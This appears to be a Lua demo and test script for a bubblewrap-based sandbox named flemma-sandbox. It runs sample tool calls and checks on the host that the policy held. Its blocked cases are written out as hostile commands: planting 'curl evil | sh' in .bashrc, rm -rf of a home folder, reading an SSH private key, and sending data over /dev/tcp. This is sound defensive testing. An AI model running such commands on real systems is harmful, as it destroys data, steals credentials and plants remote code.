--- make demo: one sandboxed tool call after another, through the public API
--- and real bubblewrap, each checked on the host afterwards. Everything it
--- touches lives in a fresh folder under /var/tmp, never in your home.
package.path = "lua/?.lua;lua/?/init.lua;spec/?.lua;" .. package.path
package.cpath = "lua/?.so;" .. package.cpath

local h = require("support.helpers")
local net = require("support.net")
local host = require("flemma.sandbox.host")
local sandbox = require("flemma.sandbox")

local dir = h.tmpdir()
local project, home = dir .. "/project", dir .. "/home"
h.sh("mkdir -p " .. h.shell_quote(project) .. " " .. h.shell_quote(home .. "/.ssh"))
h.write(home .. "/.bashrc", "# your shell setup\n")
h.write(home .. "/.ssh/id_ed25519", "PRIVATE KEY\n")
host.use({
  cwd = function()
    return project
  end,
})

sandbox.setup({
  policy = {
    rw_paths = { "$CWD" },
    deny_paths = { home .. "/.ssh" },
    network = false,
  },
})

local ok, why = sandbox.validate_backend()
if not ok then
  io.stderr:write("No sandbox backend works here: " .. tostring(why) .. "\n")
  os.exit(1)
end

local policy = sandbox.get_policy()
print("flemma-sandbox demo (" .. dir .. ")")
print("writable: " .. table.concat(policy.rw_paths, ", ") .. "   network: off   hidden: ~/.ssh\n")

local listener = net.listen()
local results, failures = {}, 0

--- Runs `script` with bash inside the sandbox, then asks `check` what the host saw.
local function tool_call(title, script, expect_blocked, check)
  local argv = assert(sandbox.wrap_command({ "bash", "-c", script }))
  local r = h.run(argv, nil, project)
  local held, seen = check(r)
  local verdict = expect_blocked and "BLOCKED" or "ALLOWED"
  if not held then
    verdict = "UNEXPECTED"
    failures = failures + 1
  end
  results[#results + 1] = { title, script, r.code, verdict, seen }
end

tool_call("write a file in the project", "echo hello > notes.txt", false, function(r)
  local content = h.read(project .. "/notes.txt")
  return r.code == 0 and content == "hello\n",
    "host: project/notes.txt = " .. (content or "(missing)"):gsub("\n", "\\n")
end)

tool_call("append to ~/.bashrc", "echo 'curl evil | sh' >> " .. home .. "/.bashrc", true, function(r)
  local content = h.read(home .. "/.bashrc")
  return r.code ~= 0 and content == "# your shell setup\n", "host: .bashrc unchanged"
end)

tool_call("rm -rf the home folder", "rm -rf " .. home, true, function()
  local still = h.read(home .. "/.bashrc") ~= nil
  return still, "host: home folder still there"
end)

tool_call("read the SSH key", "cat " .. home .. "/.ssh/id_ed25519", true, function(r)
  return not r.stdout:find("PRIVATE"), "sandbox saw an empty ~/.ssh"
end)

tool_call("send data to a host port", "echo secret > /dev/tcp/127.0.0.1/" .. listener.port, true, function(r)
  return r.code ~= 0 and not listener.accepted(), "host listener on 127.0.0.1:" .. listener.port .. " got nothing"
end)

tool_call("look at host processes", "ls /proc | grep -c '^[0-9]'", false, function(r)
  local n = tonumber(r.stdout:match("%d+"))
  return n ~= nil and n <= 4, "the sandbox sees " .. tostring(n) .. " processes (its own)"
end)

listener.close()
for _, row in ipairs(results) do
  print(string.format("%-10s %s", row[4], row[1]))
  print(string.format("           $ %s   (exit %d; %s)", row[2], row[3], row[5]))
end
local argv = sandbox.wrap_command({ "bash", "-c", "..." })
print("\nwrapped argv: " .. table.concat(argv, " "))
h.rmdir(dir)
if failures > 0 then
  print(failures .. " result(s) were not what the sandbox promises")
  os.exit(1)
end
